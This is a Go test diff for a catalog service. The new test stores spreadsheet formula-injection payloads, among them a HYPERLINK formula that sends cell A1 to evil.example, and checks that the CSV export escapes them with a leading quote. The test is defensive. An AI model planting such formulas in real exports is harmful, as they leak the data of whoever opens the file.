@@ -63,16 +63,21 @@ func (f *feed) get(t *testing.T, path, etag string) (*http.Response, []byte) {
 	return res, body
 }
 
+// curation is the catalog's curation with a staff member's context.
+func (f *feed) curation() (context.Context, *review.Curation) {
+	ctx := catalog.WithPrincipal(context.Background(), &catalog.Principal{Subject: "staff-1", Roles: []catalog.Role{catalog.RoleStaff}})
+	return ctx, review.NewCuration(f.cat, f.store, time.Now)
+}
+
 // change edits the catalog as staff would, moving its version.
 func (f *feed) change(t *testing.T, n int) {
 	t.Helper()
-	ctx := catalog.WithPrincipal(context.Background(), &catalog.Principal{Subject: "staff-1", Roles: []catalog.Role{catalog.RoleStaff}})
+	ctx, cur := f.curation()
 	snap, err := f.cat.Snapshot(ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
 	cert := review.CertificationByKey(snap, "aws-cwi")
-	cur := review.NewCuration(f.cat, f.store, time.Now)
 	_, errs, err := cur.AddAlias(ctx, cert.ID, catalog.Alias{Kind: catalog.AliasAlternateName, Value: "Welding Inspector " + strconv.Itoa(n)}, "common name")
 	if err != nil || len(errs) > 0 {
 		t.Fatal(err, errs)
@@ -133,6 +138,87 @@ func TestDownloadsHoldEveryActiveEntryAndAnswer304(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestCSVCellsAreNotFormulas stores, as staff would, an entry whose names
+// a spreadsheet would run as formulas and reads /catalog.csv back: those
+// cells start with a quote, the integer columns and the JSON-LD do not, and
+// the CSV's ETag is not the one a copy rendered without the quotes had.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	f := newFeed(t, gormstore.DialectSQLite)
+	before, _ := f.get(t, "/catalog.csv", "")
+	const name = `=HYPERLINK("https://evil.example/?leak="&A1,"Click to renew")`
+	const orgName = `=HYPERLINK("https://evil.example","Issuer")`
+	ctx, cur := f.curation()
+	cert, errs, err := cur.CreateCertification(ctx, review.CertificationInput{
+		NewOrganization:     &review.OrganizationInput{Name: orgName, Acronym: "EVIL"},
+		Name:                name,
+		DisplayName:         "+Evil Certification",
+		Group:               "@SUM(1+1)",
+		Description:         "-5 points for every renewal",
+		RecognitionBases:    []catalog.RecognitionBasis{catalog.BasisANSI},
+		RenewalPeriodMonths: 36,
+	}, "a formula in a name")
+	if err != nil || len(errs) > 0 {
+		t.Fatal(err, errs)
+	}
+
+	res, body := f.get(t, "/catalog.csv", before.Header.Get("ETag"))
+	if res.StatusCode != http.StatusOK {
+		t.Fatalf("/catalog.csv after the change with the old ETag: %d", res.StatusCode)
+	}
+	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := map[string]int{}
+	for i, c := range rows[0] {
+		col[c] = i
+	}
+	var row []string
+	for _, r := range rows[1:] {
+		if r[col["key"]] == cert.Key {
+			row = r
+		}
+	}
+	if row == nil {
+		t.Fatalf("/catalog.csv has no line for %s", cert.Key)
+	}
+	for column, want := range map[string]string{
+		"key":                 cert.Key,
+		"name":                "'" + name,
+		"displayName":         "'+Evil Certification",
+		"organization":        "'" + orgName,
+		"group":               "'@SUM(1+1)",
+		"description":         "'-5 points for every renewal",
+		"renewalPeriodMonths": "36",
+	} {
+		if got := row[col[column]]; got != want {
+			t.Errorf("%s cell = %q, want %q", column, got, want)
+		}
+	}
+	if points := row[col["points"]]; points == "" || strings.Trim(points, "0123456789") != "" {
+		t.Errorf("points cell = %q, want an integer as it is", points)
+	}
+
+	_, entry := f.get(t, "/catalog/certifications/"+cert.Key+".jsonld", "")
+	var node struct {
+		Name    map[string]string `json:"ceterms:name"`
+		OwnedBy []struct {
+			Name map[string]string `json:"ceterms:name"`
+		} `json:"ceterms:ownedBy"`
+	}
+	if err := json.Unmarshal(entry, &node); err != nil || node.Name[language] != "+Evil Certification" ||
+		len(node.OwnedBy) != 1 || node.OwnedBy[0].Name[language] != orgName {
+		t.Errorf("the JSON-LD of the entry does not hold its names as stored: %s", entry)
+	}
+	jsonld, _ := f.get(t, "/catalog.jsonld", "")
+	if etag := res.Header.Get("ETag"); etag == "" || etag == jsonld.Header.Get("ETag") {
+		t.Errorf("/catalog.csv has ETag %q, the one of the catalog version (%q) that a copy without quotes had", etag, jsonld.Header.Get("ETag"))
+	}
+	if again, body := f.get(t, "/catalog.csv", res.Header.Get("ETag")); again.StatusCode != http.StatusNotModified || len(body) != 0 {
+		t.Errorf("/catalog.csv with its ETag: %d, %d bytes", again.StatusCode, len(body))
 	}
 }
 
